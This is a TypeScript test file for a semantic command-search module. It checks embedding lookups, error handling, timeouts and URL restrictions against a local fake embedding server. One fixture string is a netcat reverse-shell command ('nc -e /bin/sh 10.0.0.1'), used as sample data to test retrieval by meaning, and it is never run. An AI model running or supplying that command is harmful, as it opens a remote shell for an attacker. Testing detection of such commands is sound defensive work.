import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { json } from 'node:stream/consumers';
import { after, before, describe, test } from 'node:test';

import { VedetteError } from '@vedette/core';
import { z } from 'zod';

import type { Log } from '../../log.ts';
import type { Embedder } from './embedder.ts';
import { createHttpEmbedder } from './http-embedder.ts';
import { createModel } from './model.ts';
import {
  type Commands,
  createShapeVectors,
  type Nearest,
  type ShapeVectors,
} from './shape-vectors.ts';

/** What a model knows, and words do not. */
const MEANINGS: Readonly<Record<string, number>> = {
  ...{ nc: 0, '/bin/sh': 0, inverse: 0, terminal: 0, tar: 1, pack: 1, backup: 1, ls: 2, list: 2 },
};
const COMMANDS = new Map([
  ['shell', 'nc -e /bin/sh 10.0.0.1'],
  ['archive', 'tar czf backup.tgz'],
  ['listing', 'ls -la'],
]);
/** What does not hang answers within this on the slowest machine. */
const PATIENT_MS = 60_000;
const IMPATIENT_MS = 100;
const Request = z.object({ model: z.string(), input: z.array(z.string()) });

type Reply = (
  input: readonly string[],
) => { readonly status?: number; readonly body: string } | null;

function vectorOf(text: string): number[] {
  const vector = [0.01, 0.01, 0.01];
  for (const word of text.split(' ')) {
    const meaning = MEANINGS[word];
    if (meaning !== undefined) vector[meaning] = (vector[meaning] ?? 0) + 1;
  }
  return vector;
}

interface Asked {
  readonly clock: { nowMs: number };
  readonly logged: readonly string[];
  readonly vectors: ShapeVectors;
}

function commandsOf(texts: ReadonlyMap<string, string> = COMMANDS): Commands {
  return { ids: () => texts.keys(), textOf: (id) => texts.get(id) };
}

function idsOf({ found }: Nearest): string[] | undefined {
  return found?.map(({ id }) => id);
}

/** Until there is a vector of each that can have one. */
async function know(
  vectors: ShapeVectors,
  commands: ReadonlyMap<string, string> = COMMANDS,
): Promise<void> {
  vectors.follow(commandsOf(commands));
  await vectors.settled();
}

const answer: Reply = (input) => ({
  body: JSON.stringify({
    data: input.map((text, index) => ({ index, embedding: vectorOf(text) })).toReversed(),
  }),
});

describe('an embedding model', () => {
  let server: Server;
  let url = '';
  let reply: Reply = answer;
  let keys: (string | undefined)[] = [];
  before(async () => {
    server = createServer((request, response) => {
      const tell = async (): Promise<void> => {
        const { input } = Request.parse(await json(request));
        keys.push(request.headers.authorization);
        const told = reply(input);
        // Null: it hangs.
        if (told !== null) response.writeHead(told.status ?? 200).end(told.body);
      };
      void tell();
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const address = server.address();
    if (address === null || typeof address === 'string') throw new TypeError('no TCP address');
    url = `http://127.0.0.1:${address.port}/v1/`;
  });
  after(() => {
    server.closeAllConnections();
    server.close();
  });

  const asked = (
    embedder: Embedder = createHttpEmbedder({ url, model: 'm', key: 'k' }),
    questionTimeoutMs = PATIENT_MS,
  ): Asked => {
    const clock = { nowMs: 0 };
    const logged: string[] = [];
    const log: Log = (level, event, facts = {}) => {
      logged.push(`${level} ${event} ${JSON.stringify(facts)}`);
    };
    const nowMs = (): number => clock.nowMs;
    const model = createModel({ embedder, log, nowMs, questionTimeoutMs });
    return { clock, logged, vectors: createShapeVectors(model, () => true) };
  };

  test('finds by meaning what has not one of the words', async () => {
    reply = answer;
    keys = [];
    const { vectors, logged } = asked();
    await know(vectors);
    const nearest = await vectors.nearest('inverse terminal', 10);
    assert.deepEqual(idsOf(nearest), ['shell']);
    assert.deepEqual(new Set(keys), new Set(['Bearer k']));
    await know(vectors, new Map([...COMMANDS].slice(1)));
    assert.deepEqual(idsOf(await vectors.nearest('inverse terminal', 10)), []);
    assert.deepEqual(logged, []);
  });

  const broken: Readonly<Record<string, readonly [Reply, RegExp]>> = {
    'that refuses': [() => ({ status: 500, body: 'no' }), /it answers with 500/],
    'that answers no JSON': [() => ({ body: '<html>' }), /not valid JSON/],
    'that answers no vectors': [() => ({ body: '{"data":[{}]}' }), /no list of vectors/],
    'that answers other vectors than were asked for': [
      () => ({ body: '{"data":[]}' }),
      /other texts/,
    ],
    'that answers a vector without a direction': [
      (input) => ({
        body: JSON.stringify({ data: input.map((_, index) => ({ index, embedding: [0, 0] })) }),
      }),
      /without a direction/,
    ],
    'that answers without end': [() => ({ body: 'x'.repeat(20 * 1024 * 1024) }), /over \d+ bytes/],
  };
  for (const [what, [told, problem]] of Object.entries(broken)) {
    test(`one ${what} is left in peace, which is logged once`, async () => {
      reply = told;
      const { clock, logged, vectors } = asked();
      const failed = await vectors.nearest('a question', 5);
      assert.ok(failed.found === null);
      assert.match(failed.problem, problem);
      reply = answer;
      assert.deepEqual(await vectors.nearest('a question', 5), failed, 'for a minute');
      assert.equal(logged.length, 1);
      assert.match(logged[0] ?? '', /^warn embedding-model-paused .*"cause":.*"hint":/);
      clock.nowMs += 61_000;
      await know(vectors);
      assert.deepEqual(idsOf(await vectors.nearest('pack a backup', 5)), ['archive']);
      assert.match(logged.slice(1).join(), /^info embedding-model-works [^,]*,[^,]*$/);
    });
  }

  test('that hangs is not waited for', async () => {
    reply = () => null;
    const { vectors } = asked(createHttpEmbedder({ url, model: 'm' }), IMPATIENT_MS);
    const failed = await vectors.nearest('a question', 5);
    assert.deepEqual(failed, { found: null, problem: 'no answer in 0.1 s' });
  });

  test('that fails many at once is logged once', async () => {
    reply = () => ({ status: 503, body: '' });
    const { vectors, logged } = asked();
    const ask = (): Promise<Nearest> => vectors.nearest('a question', 5);
    const failed = await Promise.all([ask(), ask(), ask()]);
    assert.ok(failed.every(({ found }) => found === null));
    assert.equal(logged.length, 1);
  });

  test('that cannot be reached is named by how', async () => {
    const { vectors } = asked(createHttpEmbedder({ url: 'http://127.0.0.1:1/v1', model: 'm' }));
    const failed = await vectors.nearest('a question', 5);
    assert.ok(failed.found === null);
    assert.match(failed.problem, /ECONNREFUSED|bad port/);
  });

  test('that cannot read some commands still reads the others, and questions', async () => {
    const many = new Map(Array.from({ length: 100 }, (_, at) => [`c${at}`, `list ${at}`]));
    many.set('c1', 'poison').set('shell', 'nc');
    reply = (input) => (input.includes('poison') ? { status: 400, body: '' } : answer(input));
    const { clock, vectors } = asked();
    await know(vectors, many);
    const first = await vectors.nearest('inverse terminal', 5);
    assert.partialDeepStrictEqual(first, { found: [], unseen: 101 });
    for (let asks = 0; asks < 3; asks += 1) await know(vectors, many);
    clock.nowMs += 61_000;
    await know(vectors, many);
    const second = await vectors.nearest('inverse terminal', 5);
    assert.partialDeepStrictEqual(second, { unseen: 64, of: 101 });
    assert.deepEqual(idsOf(second), ['shell']);
  });

  test('whose vectors change their length is another: what it read is read anew', async () => {
    reply = answer;
    const { logged, vectors } = asked();
    await know(vectors);
    const longer = (text: string): number[] => [...vectorOf(text), 0];
    reply = (input) => ({
      body: JSON.stringify({
        data: input.map((text, index) => ({ index, embedding: longer(text) })),
      }),
    });
    const changed = await vectors.nearest('inverse terminal', 5);
    assert.partialDeepStrictEqual(changed, { found: [], unseen: 3 });
    assert.match(logged.join(), /^warn embedding-model-changed .*"before":3,"now":4[^\]]*$/);
    await know(vectors);
    assert.deepEqual(idsOf(await vectors.nearest('inverse terminal', 5)), ['shell']);
    assert.equal(logged.length, 1);
  });

  test('that answers vectors of two lengths does not work', async () => {
    reply = (input) => ({
      body: JSON.stringify({
        data: input.map((_, index) => ({ index, embedding: Array(index + 1).fill(1) })),
      }),
    });
    const { logged, vectors } = asked();
    await know(vectors);
    assert.match(logged.join(), /"what":"commands".*other texts/);
  });

  test('that does not heed its signal is not waited for', async () => {
    const embed = (): Promise<never> => new Promise(() => {});
    const { vectors } = asked({ name: 'deaf', embed }, IMPATIENT_MS);
    const failed = await vectors.nearest('a question', 5);
    assert.deepEqual(failed, { found: null, problem: 'no answer in 0.1 s' });
  });

  test('is not asked where anybody could listen in', () => {
    for (const bad of [
      'http://models.example/v1',
      'ftp://127.0.0.1/',
      'https://a:b@models.example/v1',
      'nonsense',
    ]) {
      assert.throws(() => createHttpEmbedder({ url: bad, model: 'm' }), VedetteError, bad);
    }
    for (const good of ['https://models.example/v1', 'http://[::1]:8080/v1', 'http://127.0.0.1/v1'])
      createHttpEmbedder({ url: good, model: 'm' });
  });
});
